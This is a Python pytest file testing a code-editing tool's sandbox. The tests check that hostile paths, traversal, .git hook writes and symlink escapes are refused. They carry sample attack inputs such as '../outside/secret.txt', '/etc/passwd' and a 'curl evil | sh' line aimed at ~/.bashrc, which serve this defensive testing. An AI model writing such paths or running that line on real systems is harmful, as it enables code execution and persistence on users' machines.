"""Hostile paths at apply time: nothing is written outside the workspace, or into .git/.kimi."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kimi_code.edits.apply import apply_changeset
from kimi_code.edits.overlay import StagedWorkspace
from kimi_code.edits.sandbox import resolve_inside
from kimi_code.errors import ApplyError, SandboxViolation
from kimi_code.model.changes import ChangeSet, FileChange, content_hash

from .fsutil import diff, init_repo, snapshot


def attempt(root: Path, change: FileChange) -> None:
    apply_changeset(root, ChangeSet((change,)), run_id="hostile")


@pytest.mark.parametrize(
    "path",
    [
        "../outside/secret.txt",
        "src/../../outside/secret.txt",
        "/tmp/evil.txt",
        ".git/hooks/post-checkout",
        "src/.git/config",
        ".kimi/runs/x/journal.json",
    ],
)
def test_hostile_creation_paths_are_refused(project: Path, sentinel: Path, path: str) -> None:
    init_repo(project)
    before, outside = snapshot(project, skip=set()), snapshot(sentinel)
    with pytest.raises(SandboxViolation):
        attempt(project, FileChange(path, "pwned\n", None))
    after = snapshot(project, skip=set())
    assert diff(before, {k: v for k, v in after.items() if not k.startswith(".kimi")}) == []
    assert diff(outside, snapshot(sentinel)) == []


def test_tilde_is_a_literal_name_never_home(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    attempt(project, FileChange("~/.bashrc", "curl evil | sh\n", None))
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (project / "~" / ".bashrc").is_file()


def test_rename_out_of_the_workspace_is_refused(project: Path, sentinel: Path) -> None:
    before = snapshot(sentinel)
    old = content_hash((project / "src/a.js").read_bytes())
    with pytest.raises(SandboxViolation):
        attempt(project, FileChange("src/a.js", "x", old, "../outside/a.js"))
    assert (project / "src/a.js").exists()
    assert diff(before, snapshot(sentinel)) == []


def test_symlinked_file_to_outside_is_refused(project: Path, sentinel: Path) -> None:
    (project / "src/link.js").symlink_to(sentinel / "secret.txt")
    before = snapshot(sentinel)
    secret = (sentinel / "secret.txt").read_bytes()
    with pytest.raises(SandboxViolation):
        attempt(project, FileChange("src/link.js", "pwned", content_hash(secret)))
    assert diff(before, snapshot(sentinel)) == []
    with pytest.raises(SandboxViolation):
        StagedWorkspace(project).read_text("src/link.js")


def test_symlinked_directory_to_outside_is_refused(project: Path, sentinel: Path) -> None:
    (project / "vendor").symlink_to(sentinel, target_is_directory=True)
    before = snapshot(sentinel)
    with pytest.raises(SandboxViolation):
        attempt(project, FileChange("vendor/new.js", "pwned", None))
    secret = (sentinel / "secret.txt").read_bytes()
    with pytest.raises(SandboxViolation):
        attempt(project, FileChange("vendor/secret.txt", "pwned", content_hash(secret)))
    assert diff(before, snapshot(sentinel)) == []


def test_symlink_inside_the_workspace_is_not_replaced(project: Path) -> None:
    (project / "src/alias.js").symlink_to("a.js")
    data = (project / "src/a.js").read_bytes()
    with pytest.raises(SandboxViolation, match="symlink"):
        attempt(project, FileChange("src/alias.js", "x", content_hash(data)))
    assert os.readlink(project / "src/alias.js") == "a.js"
    assert (project / "src/a.js").read_bytes() == data


def test_staged_workspace_refuses_the_same_paths(project: Path, sentinel: Path) -> None:
    (project / "vendor").symlink_to(sentinel, target_is_directory=True)
    ws = StagedWorkspace(project)
    for bad in ("../outside/secret.txt", "/etc/passwd", "vendor/secret.txt", "a\\..\\..\\x"):
        with pytest.raises(SandboxViolation):
            ws.stage(FileChange(bad, "pwned", None))
        with pytest.raises(SandboxViolation):
            resolve_inside(project, bad)


def test_symlink_chain_leading_out_is_refused(project: Path, sentinel: Path) -> None:
    (project / "hop").symlink_to("src")
    (project / "src/hop2").symlink_to("../../outside", target_is_directory=True)
    with pytest.raises(SandboxViolation):
        resolve_inside(project, "hop/hop2/secret.txt")


def test_fifo_or_directory_in_place_of_a_file_is_refused(project: Path) -> None:
    os.mkfifo(project / "src/pipe.js")
    (project / "src/dir.js").mkdir()
    for rel in ("src/pipe.js", "src/dir.js"):
        with pytest.raises(ApplyError, match="not a regular file"):
            attempt(project, FileChange(rel, "x", content_hash(b"")))


def test_one_file_by_two_names_is_refused(project: Path) -> None:
    (project / "lib").symlink_to("src", target_is_directory=True)
    data = (project / "src/a.js").read_bytes()
    twice = ChangeSet(
        (
            FileChange("src/a.js", "one\n", content_hash(data)),
            FileChange("lib/a.js", "two\n", content_hash(data)),
        )
    )
    with pytest.raises(ApplyError, match="the same file"):
        apply_changeset(project, twice, run_id="twice")
    assert (project / "src/a.js").read_bytes() == data
